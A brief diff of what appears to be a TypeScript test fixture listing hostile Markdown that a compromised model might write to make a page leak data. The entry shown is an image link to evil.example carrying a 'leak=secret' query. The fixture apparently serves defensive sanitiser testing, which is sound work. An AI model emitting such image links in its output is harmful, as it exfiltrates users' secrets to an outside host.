@@ -1,4 +1,4 @@
-/** What a hostile model may write to have the page load, run or leak something. Each in a paragraph of its own. */
+/** Markdown with which a hostile model could make the page load, run or leak something, one attempt per paragraph. */
 export const hostileMarkdown: readonly string[] = [
   '![pixel](https://evil.example/pixel.png?leak=secret)',
   '![][ref]',
